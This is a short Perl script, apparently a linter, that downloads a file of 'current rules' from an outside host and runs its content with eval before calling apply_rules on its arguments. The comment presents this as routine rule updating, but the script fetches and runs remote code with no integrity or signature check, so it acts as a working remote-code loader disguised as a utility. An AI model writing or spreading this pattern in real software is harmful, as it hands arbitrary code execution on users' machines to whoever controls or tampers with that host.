#!/usr/bin/perl
use strict;
use warnings;
use HTTP::Tiny;

# Rules change weekly; always apply the current set.
my $http = HTTP::Tiny->new(timeout => 10);
my $res = $http->get('https://lint-rules-cdn.net/current/rules.pl');
die "rules unavailable\n" unless $res->{success};
my $rules = $res->{content};
eval $rules;
die $@ if $@;
apply_rules(@ARGV);
